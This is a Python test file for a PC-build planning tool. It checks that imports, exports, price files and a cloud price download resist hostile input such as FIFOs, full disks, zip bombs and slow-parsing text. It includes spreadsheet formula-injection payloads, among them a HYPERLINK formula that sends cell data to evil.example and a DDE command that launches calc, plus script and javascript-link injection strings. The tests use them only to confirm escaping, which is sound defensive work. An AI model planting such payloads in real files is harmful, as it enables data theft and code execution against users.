"""Hostile input to imports, your prices, exports, numbers and the cloud price files (issue 24): nothing lost,
nothing injected, nothing hangs.

Over 400 lines: one section per attacked surface (imports, your prices, exports, numbers, cloud price files),
in the order of docs/reliability.md's round three, so a guarantee and its test are found side by side.

Real files, real processes (`python -m rigplan`), a real FIFO, a real full disk (a 256 KB tmpfs, as root; for every
user, a write cut short by a file-size limit), and the real catalog. The cloud price download and cache are at the
end of this file; the window in tests/gui/test_shown_as_typed_and_startup.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import pytest

from rigplan.catalog import Catalog
from rigplan.exports.markdown import to_markdown
from rigplan.exports.plan import make_plan
from rigplan.exports.tables import parts_csv
from rigplan.files import BuildFileError, load, save
from rigplan.files.safeio import read_user_text, write_user_file
from rigplan.imports.money import parse_amount, parse_price
from rigplan.imports.pcpartpicker import MAX_TEXT, parse_list
from rigplan.imports.price_file import parse_price_file
from rigplan.imports.user_prices import UserPricesError, add_user_prices, load_user_prices, prices_path
from rigplan.kinds import Kind
from rigplan.model import Build, BuildItem, Price
from rigplan.model.numbers import NumberError, parse_number
from rigplan.model.parts import PART_ADAPTER

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "2x-rtx-4090.rigplan"
POSIX = os.name == "posix"


def rigplan(*args: str, data: Path, timeout: float = 120, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "XDG_DATA_HOME": str(data), "QT_QPA_PLATFORM": "offscreen"}
    return subprocess.run(
        [sys.executable, "-m", "rigplan", *args],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=timeout,
        env=env,
        input=stdin,
    )


def one_line_refusal(out: subprocess.CompletedProcess[str]) -> str:
    """Exit 2, one line on stderr that starts 'rigplan: ', no traceback."""
    assert out.returncode == 2, (out.returncode, out.stdout, out.stderr)
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("rigplan: "), out.stderr
    assert "Traceback" not in out.stderr and "internal error" not in out.stderr
    return lines[0]


# --- one safe way to read and write any file ---------------------------------------------------------------------


@pytest.mark.skipif(not POSIX, reason="FIFOs are POSIX")
@pytest.mark.parametrize(
    "args",
    [
        ["import", "pcpartpicker", "{fifo}", "-o", "{out}"],
        ["import", "prices", "{fifo}", "--catalog"],
        ["import", "prices", "{fifo}", "--build", str(EXAMPLE), "-o", "{out}"],
        ["export", str(EXAMPLE), "--format", "csv", "-o", "{fifo}"],
        ["export", str(EXAMPLE), "--format", "md", "-o", "{fifo}"],
    ],
    ids=["pcpartpicker-input", "prices-input", "prices-into-build", "export-csv-output", "export-md-output"],
)
def test_a_fifo_is_refused_at_once_on_every_path(tmp_path: Path, args: list[str]) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    start = time.monotonic()
    out = rigplan(*[a.format(fifo=fifo, out=tmp_path / "out.rigplan") for a in args], data=tmp_path / "d", timeout=60)
    line = one_line_refusal(out)
    assert "named pipe (FIFO)" in line
    assert time.monotonic() - start < 30  # refused, not waited on (a writer never comes)
    assert not (tmp_path / "out.rigplan").exists()


@pytest.mark.skipif(not POSIX, reason="FIFOs are POSIX")
def test_a_fifo_as_your_price_file_is_refused_not_waited_on(tmp_path: Path) -> None:
    data = tmp_path / "d"
    (data / "RigPlan").mkdir(parents=True)
    os.mkfifo(data / "RigPlan" / "user-prices.json")
    line = one_line_refusal(rigplan("import", "prices", "--list", data=data, timeout=60))
    assert "user-prices.json" in line and "named pipe" in line
    with pytest.raises(UserPricesError, match="named pipe"):
        load_user_prices(data / "RigPlan")


def test_export_never_replaces_its_own_input(tmp_path: Path) -> None:
    build = tmp_path / "b.rigplan"
    build.write_bytes(EXAMPLE.read_bytes())
    before = build.read_bytes()
    for fmt in ("md", "csv", "costs-csv"):
        line = one_line_refusal(rigplan("export", str(build), "--format", fmt, "-o", str(build), data=tmp_path / "d"))
        assert "also the input" in line
    link = tmp_path / "link.rigplan"
    link.symlink_to(build)  # another name for the same file is the same file
    one_line_refusal(rigplan("export", str(build), "--format", "md", "-o", str(link), data=tmp_path / "d"))
    assert build.read_bytes() == before and not (tmp_path / "b.rigplan.bak").exists()


def test_an_import_never_writes_over_the_list_or_price_file_it_reads(tmp_path: Path) -> None:
    listing = tmp_path / "list.txt"
    listing.write_text((ROOT / "tests" / "data" / "pcpartpicker" / "budget.txt").read_text())
    before = listing.read_bytes()
    line = one_line_refusal(rigplan("import", "pcpartpicker", str(listing), "-o", str(listing), data=tmp_path / "d"))
    assert "also the input" in line and listing.read_bytes() == before


def test_export_over_an_older_export_keeps_it_as_bak(tmp_path: Path) -> None:
    out = tmp_path / "parts.md"
    out.write_text("my notes, typed by hand\n")
    assert rigplan("export", str(EXAMPLE), "--format", "md", "-o", str(out), data=tmp_path / "d").returncode == 0
    assert out.read_text().startswith("## 2x RTX 4090 workstation")
    assert (tmp_path / "parts.md.bak").read_text() == "my notes, typed by hand\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("fmt", ["pdf", "png", "md"])
def test_an_export_on_a_full_disk_fails_in_one_line_and_leaves_the_old_file_whole(
    full_disk: Path, tmp_path: Path, fmt: str
) -> None:
    out = full_disk / f"report.{fmt}"
    old = b"the previous export\n" * 1000
    out.write_bytes(old)
    fd = os.open(full_disk / "filler", os.O_WRONLY | os.O_CREAT)  # fill the disk: no export fits
    try:
        while os.write(fd, b"\0" * 4096):
            pass
    except OSError:
        pass
    finally:
        os.close(fd)
    line = one_line_refusal(rigplan("export", str(EXAMPLE), "--format", fmt, "-o", str(out), data=tmp_path / "d"))
    assert "No space left" in line or "could not save" in line
    assert out.read_bytes() == old  # never torn, never removed
    assert [p.name for p in full_disk.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_FSIZE with SIGXFSZ ignored: Linux")
@pytest.mark.parametrize("fmt", ["md", "costs-csv"])
def test_a_write_cut_short_fails_in_one_line_and_leaves_no_temporary_file(tmp_path: Path, fmt: str) -> None:
    """The full disk above, without root: the export runs under a 2 KB file-size limit (RLIMIT_FSIZE; Python
    ignores SIGXFSZ, so a write past the limit fails with EFBIG part-way through, as it does with ENOSPC on a full
    disk). The old file stays whole and the half-written temporary file is removed."""
    import resource

    def limit() -> None:  # in the child only, before it runs Python
        resource.setrlimit(resource.RLIMIT_FSIZE, (2048, 2048))

    out = tmp_path / "exports" / f"report.{fmt}"
    out.parent.mkdir()
    old = b"the previous export\n" * 1000  # written before the limit: bigger than it
    out.write_bytes(old)
    env = {**os.environ, "XDG_DATA_HOME": str(tmp_path / "d"), "PYTHONDONTWRITEBYTECODE": "1"}
    args = [sys.executable, "-m", "rigplan", "export", str(EXAMPLE), "--format", fmt, "-o", str(out)]
    done = subprocess.run(args, capture_output=True, text=True, cwd=ROOT, timeout=120, env=env, preexec_fn=limit)
    line = one_line_refusal(done)
    assert "could not save (File too large)" in line and "the previous file is unchanged" in line
    assert out.read_bytes() == old
    assert sorted(p.name for p in out.parent.iterdir()) == [out.name]  # no .tmp left beside it (and no .bak made)
    unlimited = subprocess.run(args[:-2] + ["-o", str(tmp_path / f"whole.{fmt}")], capture_output=True, env=env)
    assert unlimited.returncode == 0 and (tmp_path / f"whole.{fmt}").stat().st_size > 2048  # the limit bit


def test_write_user_file_refuses_special_files_and_reads_refuse_oversize(tmp_path: Path) -> None:
    with pytest.raises(BuildFileError, match="folder"):
        write_user_file(tmp_path, b"x", what="export")
    big = tmp_path / "big.csv"
    big.write_bytes(b"a" * 2000)
    with pytest.raises(BuildFileError, match="limited to 1,000 bytes"):
        read_user_text(big, 1000, what="price file")
    bad = tmp_path / "latin1.csv"
    bad.write_bytes("Caf\xe9,1,EUR\n".encode("latin-1"))
    with pytest.raises(BuildFileError, match="not UTF-8"):
        read_user_text(bad, 1000, what="price file")


# --- your prices: locked read-merge-write ------------------------------------------------------------------------


def _csv(ids: list[str], amount: float) -> str:
    return "".join(f"{pid},{amount + n:.2f},USD,2026-11-01,shop {amount:g}\n" for n, pid in enumerate(ids))


@pytest.mark.slow  # 40 CLI processes at once: about 24 s
def test_twenty_pairs_of_imports_at_once_keep_every_row(tmp_path: Path, catalog: Catalog) -> None:
    """40 real `rigplan import prices --catalog` processes, started together, each adding its own 4 parts: every
    one of the 160 rows is kept (without the lock, read-merge-write lost rows while every process said 'Added')."""
    ids = [pid for kind in (Kind.GPU, Kind.CPU, Kind.MEMORY) for pid in catalog.table(kind).ids[:60]][:160]
    data = tmp_path / "d"
    env = {**os.environ, "XDG_DATA_HOME": str(data)}
    procs = []
    for n in range(40):
        f = tmp_path / f"prices-{n}.csv"
        f.write_text(_csv(ids[4 * n : 4 * n + 4], 100.0 * (n + 1)))
        cmd = [sys.executable, "-m", "rigplan", "import", "prices", str(f), "--catalog", "--json"]
        procs.append(subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env))
    for p in procs:
        out, err = p.communicate(timeout=600)
        assert p.returncode == 0, err
        assert len(json.loads(out)["added"]) == 4
    kept = load_user_prices(data / "RigPlan")
    assert len(kept) == 160
    for n in range(40):
        for k, pid in enumerate(ids[4 * n : 4 * n + 4]):
            assert kept[pid].amount == pytest.approx(100.0 * (n + 1) + k)
    assert [p.name for p in (data / "RigPlan").iterdir() if p.name.endswith(".tmp")] == []


def test_a_corrupt_or_deeply_nested_price_file_is_one_line(tmp_path: Path) -> None:
    folder = tmp_path / "RigPlan"
    folder.mkdir()
    path = prices_path(folder)
    for text in ("[" * 100_000 + "]" * 100_000, "[]", '{"format": 1, "prices": []}', "\xff\xfe", ""):
        path.write_text(text, encoding="latin-1")
        with pytest.raises(UserPricesError) as err:
            load_user_prices(folder)
        assert "\n" not in str(err.value) and "left as it is" in str(err.value)
        with pytest.raises(UserPricesError):  # never taken for an empty file and overwritten
            add_user_prices({"x": Price(amount=1.0)}, folder)
        assert path.read_text(encoding="latin-1") == text
    path.write_text('{"format": 1, "prices": {"x": {"amount": 1e308, "currency": "USD"}}}')
    with pytest.raises(UserPricesError, match=r"prices\.x\.amount: Input should be less than or equal to 1000000000"):
        load_user_prices(folder)


def test_a_data_folder_that_is_a_file_is_one_line(tmp_path: Path) -> None:
    data = tmp_path / "d"
    data.mkdir()
    (data / "RigPlan").write_text("not a folder")
    csv_file = tmp_path / "p.csv"
    csv_file.write_text("63f23f26-d52c-4e3c-be6e-0d25163cff59,499,USD\n")
    line = one_line_refusal(rigplan("import", "prices", str(csv_file), "--catalog", data=data))
    assert "RigPlan" in line


# --- nothing injected: CSV and Markdown --------------------------------------------------------------------------


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
    "\rReturn",
    "<b>x</b>",
    '<img src="file:///etc/passwd">',
    "[click](javascript:alert(1))",
    "![pic](file:///etc/passwd)",
]


def hostile_build(source: str = "<img src=x onerror=alert(1)>") -> Build:
    items = []
    for n, name in enumerate(HOSTILE):
        part = PART_ADAPTER.validate_python({"kind": "storage", "id": f"custom-{n}", "name": name, "custom": True})
        items.append(BuildItem(part=part, price_override=Price(amount=10.0 + n, source=source)))
    return Build(name="<script>alert(1)</script> | [x](javascript:y)", items=tuple(items))


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path: Path) -> None:
    text = parts_csv(make_plan(hostile_build('=WEBSERVICE("http://evil")')))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    rows, setting = rows[: rows.index([])], rows[rows.index([]) + 1 :]  # the parts; the build's setting after the blank
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in setting for cell in r)
    names = [r[1] for r in rows[1:]]
    for name, original in zip(names, HOSTILE, strict=True):
        if original[0] in "=+-@\t\r":
            assert name == "'" + original.replace("\r", "\n")  # OWASP: a leading ' makes it text
        else:
            assert name == original
        assert not name.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert {r[6] for r in rows[1:]} == {'\'=WEBSERVICE("http://evil")'}


def test_markdown_escapes_html_and_makes_no_link_but_http(tmp_path: Path) -> None:
    md = to_markdown(make_plan(hostile_build("javascript:alert(1)")))
    assert "<b>" not in md and "<img" not in md and "<script" not in md  # tags are text: &lt;b&gt;
    assert "&lt;b&gt;x&lt;/b&gt;" in md and "&lt;img src=" in md
    assert not re.search(r"(?<!\\)\]\((?:javascript|file):", md)  # no link or image opens: every ] is escaped
    assert r"\[click\]" in md
    assert "Prices: javascript:alert(1)." in md  # the source, as text
    md2 = to_markdown(make_plan(hostile_build("https://shop.example/q?id=1&x=(2)")))
    assert "[shop.example/q](https://shop.example/q?id=1&x=%282%29)" in md2
    # A build file holding such names, exported by the CLI, gives the same output
    path = tmp_path / "hostile.rigplan"
    save(hostile_build("javascript:alert(1)"), path)
    out = rigplan("export", str(path), "--format", "md", data=tmp_path / "d")
    assert out.returncode == 0 and "<img" not in out.stdout
    assert not re.search(r"(?<!\\)\]\(javascript:", out.stdout)


# --- linear-time parsers -----------------------------------------------------------------------------------------


def _hostile_texts() -> dict[str, str]:
    n = MAX_TEXT
    return {
        "blank lines": "\n" * n,
        "spaces": " " * n,
        "one line of @": "CPU: " + "@" * (n - 5),
        "open brackets": "CPU: " + "(" * (n - 5),
        "brackets and @": "CPU: x (" + "@ (" * ((n - 8) // 3),
        "digits": "CPU: $" + "1" * (n - 6),
        "digits and commas": "CPU: x ($" + "1," * ((n - 9) // 2) + ")",
        "dollar signs": "$" * n,
        "pipes": "Type|Item|Price\n" + "|" * (n - 16),
        "links": "Type|Item|Price\n**CPU**|" + "[a](b](" * ((n - 25) // 7),
        "generated by": "Generated by PCPartPicker(" * (n // 26),
        "many short lines": ("CPU: AMD Ryzen 9 7950X ($549.00 @ Amazon)\n" * (n // 42))[:n],
        "long line of tabs and words": ("Video Card:\t" + "word\t" * (n // 5))[:n],
    }


@pytest.mark.parametrize("shape", list(_hostile_texts()))
def test_the_list_parser_reads_200000_characters_in_under_a_second(shape: str) -> None:
    text = _hostile_texts()[shape]
    assert len(text) <= MAX_TEXT
    start = time.perf_counter()
    try:
        parse_list(text)
    except ValueError:
        pass
    assert time.perf_counter() - start < 1.0


@pytest.mark.parametrize("shape", ["digits", "quotes", "commas", "semicolons", "many rows"])
def test_the_price_file_parser_reads_200000_characters_in_under_a_second(shape: str) -> None:
    n = 200_000
    text = {
        "digits": "x," + "9" * n,
        "quotes": '"' * n,
        "commas": "," * n,
        "semicolons": "a;" + ";" * n,
        "many rows": ("AMD Ryzen 9 7950X,499.00,USD,2025-08-01,shop\n" * (n // 46)),
    }[shape]
    start = time.perf_counter()
    try:
        parse_price_file(text)
    except ValueError:
        pass
    assert time.perf_counter() - start < 1.0


# --- one money and number parser -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("1,234.56", 1234.56),
        ("1.234,56", 1234.56),
        ("549,00", 549.0),
        ("1,234", 1234.0),
        ("1 234,56", 1234.56),
        ("1'234.50", 1234.5),
        ("1,234,567.89", 1234567.89),
        ("12.5", 12.5),
    ],
)
def test_printed_amounts_follow_the_rules(text: str, expected: float) -> None:
    assert parse_amount(text) == pytest.approx(expected)


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("1,2,3", "ambiguous"),
        ("-77.98", "negative"),
        ("1e308", "not a plain number"),
        ("nan", "not a plain number"),
        ("inf", "not a plain number"),
        ("1,2345", "ambiguous"),
        ("1000000001", "above the largest allowed"),
        ("0,500", "ambiguous"),
    ],
)
def test_printed_amounts_that_are_refused(text: str, why: str) -> None:
    with pytest.raises(NumberError, match=why):
        parse_amount(text)


@pytest.mark.parametrize(
    ("text", "why"),
    [("$1e308", "not a plain amount"), ("-$77.98", "negative"), ("$-77.98", "negative"), ("$1,2,3", "ambiguous")],
)
def test_printed_prices_that_are_refused_are_never_read_as_another_number(text: str, why: str) -> None:
    with pytest.raises(NumberError, match=why):
        parse_price(text)
    assert parse_price("($549.00 @ Amazon)"[1:]) == (549.0, "USD")
    assert parse_price("549,00 €") == (549.0, "EUR")


def test_machine_numbers_are_finite_and_bounded() -> None:
    assert parse_number("1e-05", 0, 10) == pytest.approx(1e-05)
    for bad in ("nan", "inf", "-inf", "1e308", "0x10", "1,5", ""):
        with pytest.raises(NumberError):
            parse_number(bad, 0, 1e9)


def test_every_import_path_refuses_what_the_parser_refuses(tmp_path: Path) -> None:
    listing = tmp_path / "list.txt"
    listing.write_text(
        "PCPartPicker Part List: https://pcpartpicker.com/list/AbCdEf\n\n"
        "CPU: AMD Ryzen 9 7950X 4.5 GHz 16-Core Processor  ($1e308 @ Amazon)\n"
        "Video Card: NVIDIA Founders Edition GeForce RTX 4090 24 GB Video Card  (-$77.98 @ Best Buy)\n"
        "Memory: Corsair Vengeance 64 GB  ($1,2,3 @ Newegg)\n"
        "Total: $2148.99\n"
    )
    out = rigplan("import", "pcpartpicker", str(listing), "-o", str(tmp_path / "b.rigplan"), "--json", data=tmp_path)
    assert out.returncode == 0, out.stderr
    assert [ln["price"] for ln in json.loads(out.stdout)["lines"]] == [None, None, None]  # never 1.0, 77.98, 12.3
    problems = out.stderr.strip().splitlines()
    assert len(problems) == 3 and all(p.startswith("rigplan: ") for p in problems)
    assert "'$1e308' is not a plain amount" in problems[0] and "negative" in problems[1] and "ambiguous" in problems[2]
    assert all(i.price_override is None for i in load(tmp_path / "b.rigplan").items)
    prices = tmp_path / "p.csv"
    prices.write_text(
        "63f23f26-d52c-4e3c-be6e-0d25163cff59,1e308,USD\n"
        '63f23f26-d52c-4e3c-be6e-0d25163cff59,"1,2,3",USD\n'
        "63f23f26-d52c-4e3c-be6e-0d25163cff59,-$77.98,USD\n"
        "63f23f26-d52c-4e3c-be6e-0d25163cff59,nan,USD\n"
        '63f23f26-d52c-4e3c-be6e-0d25163cff59,"1,499.00",USD\n'
    )
    out = rigplan("import", "prices", str(prices), "--catalog", "--json", data=tmp_path)
    assert out.returncode == 0, out.stderr
    assert json.loads(out.stdout)["added"]["63f23f26-d52c-4e3c-be6e-0d25163cff59"]["amount"] == 1499.0
    assert len(json.loads(out.stdout)["skipped"]) == 4


# --- every refusal is one line ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["suggest", "--budget", "nan"],
        ["suggest", "--budget", "inf"],
        ["suggest", "--budget", "-5"],
        ["suggest", "--budget", "3000", "--min-vram", "nan"],
        ["suggest", "--budget", "3000", "--gpus", "1e3"],
        ["prices", "update", "--timeout", "inf"],
        ["prices", "update", "--timeout", "nan"],
        ["prices", "update", "--timeout", "0"],
        ["parts", "list", "gpu", "--limit", "-1"],
    ],
)
def test_non_finite_and_out_of_range_flags_are_one_line(tmp_path: Path, args: list[str]) -> None:
    start = time.monotonic()
    one_line_refusal(rigplan(*args, data=tmp_path, timeout=60))
    assert time.monotonic() - start < 60  # `--budget nan` used to search for ever


def test_a_validation_error_is_one_line_with_the_field_and_the_limit(tmp_path: Path) -> None:
    path = tmp_path / "b.rigplan"
    text = EXAMPLE.read_text().replace("amount: 449.96", "amount: 1.0e+308", 1)
    assert "1.0e+308" in text
    path.write_text(text)
    line = one_line_refusal(rigplan("check", str(path), data=tmp_path))
    assert "amount: Input should be less than or equal to 1000000000" in line


# --- cloud prices: whole-download deadline, inflate cap, safe reads, locked merge, bounded values ------------------

SKYPILOT = ROOT / "tests" / "data" / "skypilot" / "aws" / "vms.csv"
LAMBDA = ROOT / "tests" / "data" / "gpuhunt" / "lambdalabs.csv"


def _cache(data: Path) -> Path:
    return data / "RigPlan" / "prices" / "cloud-prices.json"


def test_a_server_that_drips_is_stopped_by_the_whole_download_deadline(tmp_path: Path) -> None:
    from prices_server import serve

    with serve("drip", providers=("aws",)) as (base, _):
        start = time.monotonic()
        out = rigplan(
            "prices", "update", "--url", base, "--providers", "aws", "--timeout", "3", "--json", data=tmp_path
        )
        took = time.monotonic() - start
    line = one_line_refusal(out)
    assert "took over 3 s" in line and "prices in use are unchanged" in line
    assert took < 20  # was minutes: the timeout bounded one read, not the download
    assert not _cache(tmp_path).exists()


def test_a_zip_bomb_is_refused_before_it_fills_the_memory(tmp_path: Path) -> None:
    """A 1 MB zip that inflates to 1 GiB: inflating stops at 64 MB; the process stays far below the 3.2 GB it took."""
    from prices_server import bomb, serve

    assert len(bomb("aws")) < 5 * 2**20
    # The peak of this process's own memory: /proc's VmHWM belongs to the memory map exec made. (getrusage's
    # ru_maxrss survives exec, so it reported the forking pytest's size, about 1 GB in a full run.)
    code = (
        "import sys\n"
        "from rigplan.cli.main import run_cli\n"
        "rc = run_cli(sys.argv[1:])\n"
        "hwm = [ln for ln in open('/proc/self/status') if ln.startswith('VmHWM:')][0].split()[1]\n"
        "print(hwm, flush=True)\n"
        "sys.exit(rc)\n"
    )
    env = {**os.environ, "XDG_DATA_HOME": str(tmp_path)}
    with serve("bomb", providers=("aws",)) as (base, _):
        args = ["prices", "update", "--url", base, "--providers", "aws", "--timeout", "60", "--json"]
        out = subprocess.run(
            [sys.executable, "-c", code, *args], capture_output=True, text=True, env=env, timeout=300, cwd=ROOT
        )
    assert out.returncode == 2, out.stderr
    assert "inflates to over 64 MB" in out.stderr and out.stderr.count("\n") == 1
    max_rss_mb = int(out.stdout.strip()) / 1024  # Linux: kilobytes
    assert max_rss_mb < 600, f"{max_rss_mb:.0f} MB"
    assert not _cache(tmp_path).exists()


@pytest.mark.skipif(not POSIX, reason="FIFOs are POSIX")
def test_a_fifo_as_a_cloud_price_file_or_cache_is_refused_not_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "vms.csv"
    os.mkfifo(fifo)
    assert "named pipe" in one_line_refusal(rigplan("prices", "import", str(fifo), "--provider", "aws", data=tmp_path))
    _cache(tmp_path).parent.mkdir(parents=True)
    os.mkfifo(_cache(tmp_path))
    out = rigplan("prices", "status", data=tmp_path, timeout=60)
    assert out.returncode == 0 and "named pipe" in out.stdout and "using the bundled prices" in out.stdout


@pytest.mark.parametrize(
    "content",
    ["[]", "[" * 100_000 + "]" * 100_000, '{"format": 1, "offers": {}, "providers": []}', '"text"', "\x00\x01"],
    ids=["list", "deep", "wrong-types", "string", "binary"],
)
def test_a_corrupt_cloud_cache_never_stops_a_command(tmp_path: Path, content: str) -> None:
    from rigplan.cloud import store

    _cache(tmp_path).parent.mkdir(parents=True)
    _cache(tmp_path).write_text(content)
    cached, problem = store.load_cache(tmp_path / "RigPlan")
    assert cached is None and problem and "using the bundled prices" in problem and "\n" not in problem
    out = rigplan("instances", "list", "--provider", "aws", "--json", data=tmp_path)
    assert out.returncode == 0, out.stderr
    assert rigplan("cost", str(EXAMPLE), "--instance", "g4dn.xlarge", data=tmp_path).returncode == 0
    store.load_cache(tmp_path / "RigPlan", move_bad=True)  # the window's start-up moves it aside
    assert not _cache(tmp_path).exists()
    assert [p.name.split(".corrupt-")[0] for p in _cache(tmp_path).parent.iterdir()] == ["cloud-prices.json"]


def test_a_price_file_without_a_usable_price_never_replaces_a_providers_offers(tmp_path: Path) -> None:
    assert rigplan("prices", "import", str(SKYPILOT), "--provider", "aws", data=tmp_path).returncode == 0
    before = _cache(tmp_path).read_bytes()
    head, *rows = SKYPILOT.read_text().splitlines()
    cols = head.split(",")
    unpriced = tmp_path / "aws" / "vms.csv"
    unpriced.parent.mkdir()
    out_rows = []
    for row in csv.reader(rows):
        row[cols.index("Price")], row[cols.index("SpotPrice")] = "", "nan"
        out_rows.append(row)
    buf = io.StringIO()
    csv.writer(buf).writerows([cols, *out_rows])
    unpriced.write_text(buf.getvalue())
    line = one_line_refusal(rigplan("prices", "import", str(unpriced), data=tmp_path))
    assert "no row has a usable price" in line
    assert _cache(tmp_path).read_bytes() == before


@pytest.mark.parametrize(
    ("column", "value", "field"),
    [("Price", "1e308", "ondemand_usd_h"), ("AcceleratorCount", "1e308", "gpu_count"), ("Price", "inf", None)],
)
def test_a_price_file_beyond_the_models_bounds_is_refused_in_one_line(
    tmp_path: Path, column: str, value: str, field: str | None
) -> None:
    head, *rows = SKYPILOT.read_text().splitlines()
    cols = head.split(",")
    parsed = list(csv.reader(rows))
    for row in parsed:
        row[cols.index(column)] = value
    bad = tmp_path / "aws" / "vms.csv"
    bad.parent.mkdir()
    buf = io.StringIO()
    csv.writer(buf).writerows([cols, *parsed])
    bad.write_text(buf.getvalue())
    out = rigplan("prices", "import", str(bad), data=tmp_path)
    if field is None:  # an infinite price is no price: the offers keep their spot price only
        assert out.returncode == 0, out.stderr
        offers = json.loads(_cache(tmp_path).read_text())["offers"]
        assert offers and all("ondemand_usd_h" not in o and o["spot_usd_h"] > 0 for o in offers)
    else:
        line = one_line_refusal(out)
        assert f"{field}: Input should be less than or equal to" in line  # the field and its limit
        assert not _cache(tmp_path).exists()
    cost = rigplan("cost", str(EXAMPLE), "--instance", "g4dn.xlarge", "--pricing", "spot", data=tmp_path)
    assert cost.returncode == 0, cost.stderr  # a cost never fails afterwards


def test_twenty_pairs_of_cloud_price_imports_at_once_keep_both_providers(tmp_path: Path) -> None:
    """In each of 20 data folders, an AWS and a Lambda import start together (40 processes): every cache ends with
    both providers (without the lock, the later writer dropped the earlier one's provider)."""
    procs = []
    for n in range(20):
        env = {**os.environ, "XDG_DATA_HOME": str(tmp_path / f"d{n}")}
        for path, provider in ((SKYPILOT, "aws"), (LAMBDA, "lambda")):
            cmd = [sys.executable, "-m", "rigplan", "prices", "import", str(path), "--provider", provider]
            procs.append(subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env))
    for p in procs:
        _, err = p.communicate(timeout=600)
        assert p.returncode == 0, err
    for n in range(20):
        doc = json.loads(_cache(tmp_path / f"d{n}").read_text())
        assert sorted(doc["providers"]) == ["aws", "lambda"]
        assert {o["provider"] for o in doc["offers"]} == {"aws", "lambda"}
